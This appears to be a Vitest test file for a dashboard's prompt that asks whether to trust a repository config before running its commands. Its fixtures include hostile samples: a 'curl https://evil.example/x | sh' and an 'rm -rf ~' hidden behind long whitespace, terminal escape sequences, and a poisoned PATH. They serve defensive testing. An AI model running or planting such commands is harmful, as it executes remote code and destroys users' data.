// The dashboard's question before a server starts where an untrusted config would run things
// (src/client/config-trust-prompt.ts): asked only when there is something to run, never about the
// operator's own files; without a terminal it is not asked and one line says how to trust; what the
// file says reaches the terminal sanitized.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { askToTrustConfig, type TrustPromptOptions } from '../../../src/client/config-trust-prompt.js';
import { readTrustStore, trustStorePath } from '../../../src/config/config-trust-store.js';

let dir: string;
let cwd: string;
let env: NodeJS.ProcessEnv;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'swb-prompt-'));
  cwd = join(dir, 'repo');
  mkdirSync(cwd);
  env = { SWB_HOME: join(dir, 'swb'), HOME: dir, XDG_CONFIG_HOME: join(dir, 'xdg') };
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function run(more: Partial<TrustPromptOptions> & { answer?: boolean } = {}) {
  const written: string[] = [];
  const asked: string[] = [];
  const outcome = askToTrustConfig({
    cwd,
    env,
    interactive: true,
    write: (t) => written.push(t),
    ask: async (q) => {
      asked.push(q);
      return more.answer ?? false;
    },
    ...more,
  });
  return outcome.then((o) => ({ outcome: o, written: written.join(''), asked }));
}
const trusted = () => readTrustStore(trustStorePath(env)).entries.map((e) => e.path);
const HOSTILE = { rows: [{ name: 'evil', command: 'touch pwned \u001b]52;c;aGk=\u0007\u001b[2J' }], federation: { url: 'nats://10.0.0.1:4222', node: 'n' } };

describe('the question before a server starts', () => {
  it('shows what the file would run, sanitized, and no (the default) records nothing', async () => {
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
    const r = await run();
    expect(r.outcome).toBe('declined');
    expect(r.asked).toEqual(['Trust this file and run them? [y/N] ']);
    expect(r.written).toContain('row evil: runs: touch pwned ␛␛');
    expect(r.written).toContain('federation: connects to nats://10.0.0.1:4222 as node n');
    expect(r.written).not.toMatch(/[\u001b\u0007]/);
    expect(r.written).toContain(`starting without them (to trust it later: swb trust ${join(cwd, 'switchboard.json')})`);
    expect(trusted()).toEqual([]);
  });

  it('shows every command and environment value whole: nothing past a cut is trusted unseen', async () => {
    const hidden = `npm run dev;${' '.repeat(2000)}curl https://evil.example/x | sh`;
    writeFileSync(
      join(cwd, 'switchboard.json'),
      JSON.stringify({ rows: [{ name: 'dev', command: hidden, env: { PATH: './evil-bin:/usr/bin' } }], worktrees: { setup: `make;${' '.repeat(1000)}rm -rf ~` } }),
    );
    const r = await run();
    expect(r.written).toContain('curl https://evil.example/x | sh; env PATH=./evil-bin:/usr/bin');
    expect(r.written).toMatch(/ {1000}rm -rf ~\n/);
    expect(r.written).not.toContain('…');
  });

  it('yes records trust, and then nothing is asked', async () => {
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
    expect((await run({ answer: true })).outcome).toBe('trusted');
    expect(trusted()).toEqual([join(cwd, 'switchboard.json')]);
    const again = await run();
    expect(again).toMatchObject({ outcome: 'no-question', asked: [], written: '' });
  });

  it('Ctrl-C at the question is neither yes nor no: interrupted, nothing recorded', async () => {
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
    const r = await run({ ask: async () => null });
    expect(r.outcome).toBe('interrupted');
    expect(trusted()).toEqual([]);
  });

  it('without a terminal (CI): not asked, one line saying how to trust', async () => {
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
    const r = await run({ interactive: false });
    expect(r.outcome).toBe('not-asked');
    expect(r.asked).toEqual([]);
    expect(r.written.trimEnd().split('\n')).toHaveLength(1);
    expect(r.written).toMatch(/is not trusted: its 1 row, federation will not run \(to trust it: swb trust .*switchboard\.json\)/);
  });

  it('never asks about --config FILE, the operator\u2019s own config, a file with nothing to run, or one that does not check', async () => {
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify(HOSTILE));
    expect((await run({ configFlag: 'switchboard.json' })).outcome).toBe('no-question');
    rmSync(join(cwd, 'switchboard.json'));
    mkdirSync(join(dir, 'xdg', 'switchboard'), { recursive: true });
    writeFileSync(join(dir, 'xdg', 'switchboard', 'config.json'), JSON.stringify(HOSTILE));
    expect((await run()).outcome).toBe('no-question');
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify({ layout: 'grid', limits: { maxUnread: 3 } }));
    expect((await run()).outcome).toBe('no-question');
    writeFileSync(join(cwd, 'switchboard.json'), JSON.stringify({ rows: [{ command: 'x', wake: 'never' }] }));
    expect((await run()).outcome).toBe('no-question');
  });

  it('asks about a file named by $SWB_CONFIG, saying so', async () => {
    const dropped = join(dir, 'dropped.json');
    writeFileSync(dropped, JSON.stringify(HOSTILE));
    env.SWB_CONFIG = dropped;
    const r = await run();
    expect(r.outcome).toBe('declined');
    expect(r.written).toContain(`${dropped} (named by $SWB_CONFIG) is not trusted yet. It would run, as you:`);
  });
});
